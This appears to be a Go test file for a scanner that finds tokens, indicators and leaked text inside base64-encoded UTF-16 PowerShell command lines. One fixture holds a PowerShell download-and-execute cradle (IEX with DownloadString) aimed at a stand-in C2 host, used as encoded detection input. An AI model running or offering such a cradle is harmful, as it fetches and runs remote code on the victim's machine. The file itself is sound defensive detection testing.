package sighting

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"forewarn/internal/token"
	"pgregory.net/rapid"
)

// inUnits is s in UTF-16, the low byte first, without a mark.
func inUnits(s string) (b []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

// What base64 of UTF-16 hides, as in a command line of PowerShell, is seen at the
// characters that hold it, in any alignment and beside what isn't ASCII.
func TestBase64OfUTF16(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		inner := token.Hex.Encode(rec, rapid.Uint64().Draw(t, "L"))
		before := rapid.SampledFrom([]string{"", "é ", "\x00\x01\x02", "Ω"}).Draw(t, "binary") + rapid.StringMatching(`[ -~]{0,9}[ /?=>]`).Draw(t, "before")
		text := before + inner + rapid.StringMatching(`[ "&<][ -~]{0,20}`).Draw(t, "after")
		raw := append(make([]byte, rapid.IntRange(0, 5).Draw(t, "odd")), inUnits(text)...)
		enc := rapid.SampledFrom([]*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding}).Draw(t, "encoding")
		coded := enc.EncodeToString(raw)
		line := "powershell -NoProfile -EncodedCommand " + coded
		outer := rapid.Bool().Draw(t, "outer")
		if outer {
			line = `{"cmd":"` + strings.NewReplacer("/", `\/`, "=", "%3D").Replace(line) + `"}`
		}
		got, _ := scanAll(t, line)
		if len(got) != 1 || got[0].What.Token.Alphabet != token.Hex || got[0].Through&Base64 == 0 {
			t.Fatalf("%q (%q): %+v", line, text, got)
		}
		if outer {
			return
		}
		at := len(raw) - len(inUnits(text)) + len(inUnits(before))
		if want := coded[at*4/3 : ((at+2*len(inner))*4+2)/3]; line[got[0].Offset:][:got[0].Len] != want {
			t.Fatalf("%q: seen in %q, not in %q", line, line[got[0].Offset:][:got[0].Len], want)
		}
	})
}

func scanAll(t *rapid.T, line string) (got []Sighting, sum Summary) {
	sum, err := (&Scanner{Rec: rec}).Scan("", strings.NewReader(line), func(s Sighting) error { got = append(got, s); return nil })
	if err != nil {
		t.Fatal(err)
	}
	return got, sum
}

// An indicator and an excerpt are seen in it as well; zeros are no text.
func TestCommandOfPowerShell(t *testing.T) {
	quote := "the overflow in deserialize handler lets anybody assembly a viewstate signature of their own hostname vector"
	s := &Scanner{Indicators: []Indicator{{Host, "c2.example.test", ""}}, Texts: []Text{{Ref: "x", Parts: []Part{{Alternatives: [][]byte{[]byte(quote)}}}}}}
	command := base64.StdEncoding.EncodeToString(inUnits("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.test/') # " + quote))
	got, _ := scan(t, s, strings.NewReader("4688 powershell.exe -enc "+command+"\n"+strings.Repeat("A", 1<<20)+"\n"))
	kinds := map[string]bool{}
	for _, g := range got {
		kinds[g.What.Kind()] = true
	}
	if len(got) != 2 || !kinds["host"] || !kinds["text"] {
		t.Errorf("%+v", got)
	}
}

// Base64 that is broken over lines is undone line by line: what doesn't stand
// across a break is seen.
func TestBase64Broken(t *testing.T) {
	tok := token.Hex.Encode(rec, 7)
	for at, want := range map[int]int{66: 1, 44: 0} { // a line holds 57 bytes
		coded := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("so it goes ", 20)[:at] + tok + " and so on, and on and on"))
		var lines []string
		for len(coded) > 76 {
			lines, coded = append(lines, coded[:76]), coded[76:]
		}
		got, _ := scan(t, &Scanner{Rec: rec}, strings.NewReader(strings.Join(append(lines, coded), "\r\n")))
		if len(got) != want {
			t.Errorf("at byte %d: %d sightings, want %d", at, len(got), want)
		}
	}
}
